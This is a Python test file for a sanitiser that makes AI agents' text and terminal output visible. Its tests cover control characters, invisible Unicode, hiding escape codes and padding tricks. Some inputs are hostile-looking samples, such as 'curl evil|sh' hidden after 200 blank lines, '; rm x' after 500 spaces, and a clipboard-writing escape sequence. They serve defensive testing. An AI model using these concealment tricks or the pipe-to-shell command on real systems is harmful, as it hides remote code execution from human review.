"""Text of agents made visible: nothing commands, hides or reorders, and nothing is lost."""

import json
import re
import sys
from unicodedata import category

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accord.machine.console.control_characters import (
    LINE_END,
    MARKS_MAX,
    Mode,
    VisibleMessages,
    VisibleOutput,
    visible,
    visible_json,
    visible_line,
)

MODES: tuple[Mode, ...] = ("prose", "exact", "code")
# Drawn as nothing, though Unicode calls them letters, marks or signs.
DRAWN_AS_NOTHING = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u3164\uffa0\ufe00\ufe0f\U000e0100"
TRICKS = (
    "\x00\x07\x08\t\r\x0b\x1b\x7f\x85\x9b\xa0\xad\u200b\u200c\u200d\u200e\u2028\u2029\u202e\u2066"
    "\u2800\u3000\ud83d\ue000\ufeff\ufff9\ufffe\U000e0041\U0001f3fd\U0010eeee⟨U+20B⟩ 3⏎\n"
    + DRAWN_AS_NOTHING
)
HOSTILE = st.text(st.characters() | st.sampled_from(TRICKS), max_size=60) | st.lists(
    st.sampled_from(["\n", " \n", "\xa0\n", "a", " " * 50, "⟨U+200B⟩", "⟨2 blank lines⟩", "\u200b"])
).map("".join)
SGR = re.compile(r"\x1b\[[0-9;:]*m")


def unseen(text: str) -> list[str]:
    """The characters of a text that a terminal would obey or not draw, line ends aside."""
    return [
        one
        for one in text
        if one != "\n" and (category(one) in ("Cc", "Cf", "Cs") or one in DRAWN_AS_NOTHING)
    ]


@pytest.mark.parametrize("mode", MODES)
def test_every_character_that_is_not_drawn_is_known(mode: Mode) -> None:
    """Issue 12: one function makes text visible; a newer Unicode may have more."""
    everything = " ".join(map(chr, range(sys.maxunicode + 1)))
    assert not unseen(visible(everything, mode))
    assert not unseen(visible_line(everything))
    assert not unseen(visible_json(json.dumps(everything, ensure_ascii=False)))


def test_where_somebody_decides_every_character_is_one_that_is_drawn() -> None:
    """Ours: among them the unassigned ones, of which a later Unicode may make anything."""
    every = "".join(chr(number) for number in range(sys.maxunicode + 1))
    assert visible(every, "exact").replace("\n", "").isprintable()
    assert visible("a\u0380\u0380b", "exact") == "a⟨U+0380⟩⟨U+0380⟩b"


@given(HOSTILE, st.sampled_from(MODES))
def test_what_is_visible_commands_nothing_and_stays_as_it_is(text: str, mode: Mode) -> None:
    """Issue 12: text may pass through more than one place that shows it."""
    shown = visible(text, mode)
    assert not unseen(shown)
    assert visible(shown) == shown
    assert visible(shown, "code") == shown


@given(HOSTILE, HOSTILE)
def test_two_texts_that_differ_look_different_where_somebody_decides(one: str, two: str) -> None:
    """Issue 12: an unmistakable form, also where a text imitates the form."""
    assert (visible_line(one) == visible_line(two)) == (one == two)


@given(HOSTILE)
def test_an_exact_text_leaves_out_nothing_but_counted_blanks(text: str) -> None:
    """Issue 12: each is written out; blank lines are folded with their number."""
    assert _restored(visible_line(text)) == text
    folded = re.compile("⟨([0-9]+) (?:blank lines|lines of characters that are not drawn)⟩")
    shown = visible(text, "exact")
    lines = sum(
        int(found[1]) if (found := folded.fullmatch(line)) else 1 for line in shown.split("\n")
    )
    assert lines == text.count("\n") + 1


def test_many_line_ends_on_one_line_are_counted() -> None:
    """Issue 12: 200 signs for line ends stood in what would be remembered."""
    assert visible_line("ls" + "\n" * 200 + "rm") == "ls⟨200 line ends⟩rm"
    assert visible_line("a\n\nb") == "a⏎⏎b"


def _restored(shown: str) -> str:
    """What an exact line was made of."""

    def character(found: re.Match[str]) -> str:
        if found[3]:
            return {"spaces": " ", "line ends": "\n"}[found[4]] * int(found[3])
        return chr(int(found[1], 16)) * int(found[2] or 1)

    shown = shown.replace(LINE_END, "\n")
    return re.sub(
        "⟨U\\+([0-9A-F]+)(?: ×([0-9]+))?⟩|⟨([0-9]+) (spaces|line ends)⟩", character, shown
    )


@pytest.mark.parametrize(
    ("text", "exact"),
    [
        ("ls\n" + "\n" * 200 + "curl evil|sh", "ls\n⟨200 blank lines⟩\ncurl evil|sh"),
        ("a\n\nb", "a\n\nb"),
        ("a\n \n  \nb\n", "a\n⟨2 blank lines⟩\nb\n"),
        ("a\n\n\n", "a\n⟨2 blank lines⟩\n"),
        ("a\n\xa0\n\u200b\nb", "a\n⟨2 lines of characters that are not drawn⟩\nb"),
        ("ls" + " " * 500 + "; rm x", "ls⟨500 spaces⟩; rm x"),
        ("ls" + "\xa0" * 500 + "; rm x", "ls⟨U+00A0 ×500⟩; rm x"),
        ("a\tb\rc\u2028d", "a⟨U+0009⟩b⟨U+000D⟩c⟨U+2028⟩d"),
        ("\u200d\ufe0f\u3164\u2800\ue000", "⟨U+200D⟩⟨U+FE0F⟩⟨U+3164⟩⟨U+2800⟩⟨U+E000⟩"),
        ("\\x1b ⟨U+001B⟩ ⟨2 blank lines⟩", "\\x1b ⟨U+27E8⟩U+001B⟩ ⟨U+27E8⟩2 blank lines⟩"),
        ("e" + "\u0301" * (MARKS_MAX + 1), "e" + "\u0301" * MARKS_MAX + "⟨U+0301⟩"),
        ("日本語 שלום é ⟨x⟩ 👍", "日本語 שלום é ⟨x⟩ 👍"),
    ],
)
def test_what_somebody_decides_about_is_written_out(text: str, exact: str) -> None:
    """Issue 12: in permission questions everything is written out."""
    assert visible(text, "exact") == exact


@pytest.mark.parametrize(
    ("text", "prose"),
    [
        ("👨\u200d👩\u200d👧 ❤\ufe0f 👍\U0001f3fd", "👨👩👧 ❤ 👍"),
        ("می\u200cخواهم क्\u200dष", "میخواهم क्ष"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("zero\u200bwidth \u202eevil", "zero⟨U+200B⟩width ⟨U+202E⟩evil"),
        ("a\rb\r\nc\u2028d", "a⟨U+000D⟩b\nc\nd"),
        ("a\tb", "a   b"),
    ],
)
def test_prose_keeps_its_letters_and_drops_only_how_they_are_drawn(text: str, prose: str) -> None:
    """Issue 12: joiners and selectors are how emoji and some scripts are written."""
    assert visible(text) == prose


@given(
    st.recursive(
        st.none() | HOSTILE, lambda inner: st.lists(inner) | st.dictionaries(HOSTILE, inner)
    )
)
def test_json_stays_what_it_is(value: object) -> None:
    """Issue 12: a program may read what a person sees."""
    text = json.dumps(value, ensure_ascii=False)
    shown = visible_json(text)
    assert json.loads(shown) == json.loads(text)
    assert not unseen(shown)


PIECES = (b"\x1b[31m", b"\x1b[0m", b"\x1b", b"[", b"31", b"m", b"\r", b"\n", b"\x1b[K", b"\x1b[8m")
ODD_PIECES = (b"\x1b]0;x\x07", b"\x9b", "\u202e\u200b日é".encode(), b"\xff", b"\t", b"\x08" * 5)
OUTPUT = st.lists(st.sampled_from(PIECES + ODD_PIECES)).map(b"".join)


@given(OUTPUT, st.data())
def test_output_in_pieces_is_output_at_once(data: bytes, draw: st.DataObject) -> None:
    """Issue 12: what agents print on stderr comes in pieces of any size."""
    whole = VisibleOutput()
    expected = whole.feed(data) + whole.finish()
    assert not unseen(SGR.sub("", expected).replace("\t", " "))
    pieces, at, parts = VisibleOutput(), 0, []
    while at < len(data):
        size = draw.draw(st.integers(1, len(data) - at))
        parts.append(pieces.feed(data[at : at + size]))
        at += size
    assert "".join(parts) + pieces.finish() == expected


@pytest.mark.parametrize(
    ("data", "shown"),
    [
        (b"\x1b[1;31mred\x1b[0m\n", "\x1b[1;31mred\x1b[0m\n"),
        (b"10%\r20%\r\x1b[K100%\r\n", "10%\n20%\n100%\n"),
        (b"\x1b[8mhidden\x1b[28m \x1b[5mblink", "hidden blink"),
        # Issue 12: black on black, or the colour of some background, hid letters as well.
        (b"\x1b[30;40ma\x1b[37;107mb\x1b[1;38;5;31;4mc\x1b[0m", "ab\x1b[1;4mc\x1b[0m"),
        (b"\x1b[38;2;1;1;31ma\x1b[48:2::1:1:1mb\x1b[38mc\x1b[38;7m", "abc"),
        (b"\x1b[031mred\x1b[m", "\x1b[31mred\x1b[0m"),
        # Issue 12: what the agent had switched on stayed on after the command.
        (b"\x1b[31mred", "\x1b[31mred\x1b[0m"),
        (b"\x1b[0;31mred\n", "\x1b[0;31mred\n\x1b[0m"),
        (b"\x1b]0;title\x07\x1b[2J", "⟨U+001B⟩]0;title⟨U+0007⟩⟨U+001B⟩[2J"),
        (b"\x1b]52;c;eA==\x07", "⟨U+001B⟩]52;c;eA==⟨U+0007⟩"),
    ],
)
def test_of_what_a_program_prints_colours_stay(data: bytes, shown: str) -> None:
    """Issue 12: stderr of agents that is passed on to a terminal is cleaned."""
    output = VisibleOutput()
    assert output.feed(data) + output.finish() == shown


@given(st.text(), st.data())
def test_messages_for_a_terminal_keep_their_values(text: str, draw: st.DataObject) -> None:
    """Issue 12: a terminal obeys nothing of a message, and a program reads the same from it."""
    value = {"a": text.encode("utf-8", "replace").decode()}
    data = json.dumps(value, ensure_ascii=False, separators=(",\r", ":\t")).encode()
    at = draw.draw(st.integers(0, len(data)))
    messages = VisibleMessages()
    shown = (messages.feed(data[:at]) + messages.feed(data[at:])).decode()
    assert json.loads(shown) == value
    assert not unseen(shown.replace("\t", ""))
    assert "\\u001b" in VisibleMessages().feed(b"no json \x1b[2J").decode()


@pytest.mark.parametrize(
    "attack", ["\x1b[1", "\x1b]", "\u0301", "\u0301\u0302", "\t", " \n", "\u200b"]
)
def test_the_time_is_linear_in_the_length(attack: str) -> None:
    """Issue 6: no text of an agent may freeze the screen; the tests have a time limit."""
    text = attack * (300_000 // len(attack))
    for mode in MODES:
        visible(text, mode)
    VisibleOutput().feed(text.encode())


@pytest.mark.parametrize("mark", ["\u0301", "\u0e31", "\u05b0", "\u093e", "\u20dd", "\U0001e944"])
@pytest.mark.parametrize("mode", ["prose", "code", "exact"])
def test_floods_of_any_marks_are_counted(mark: str, mode: Mode) -> None:
    """Ours: not only accents are drawn on top of each other."""
    assert visible(f"a{mark * 3000}b", mode) == (
        f"a{mark * MARKS_MAX}⟨U+{ord(mark):04X} ×{3000 - MARKS_MAX}⟩b"
    )
    mixed = visible("a" + f"{mark}\u0338" * 3000, mode)
    assert len(re.findall("[^\\x00-\\x7f⟨⟩]", mixed)) == MARKS_MAX
    assert visible(f"a{mark * MARKS_MAX}b", mode) == f"a{mark * MARKS_MAX}b"
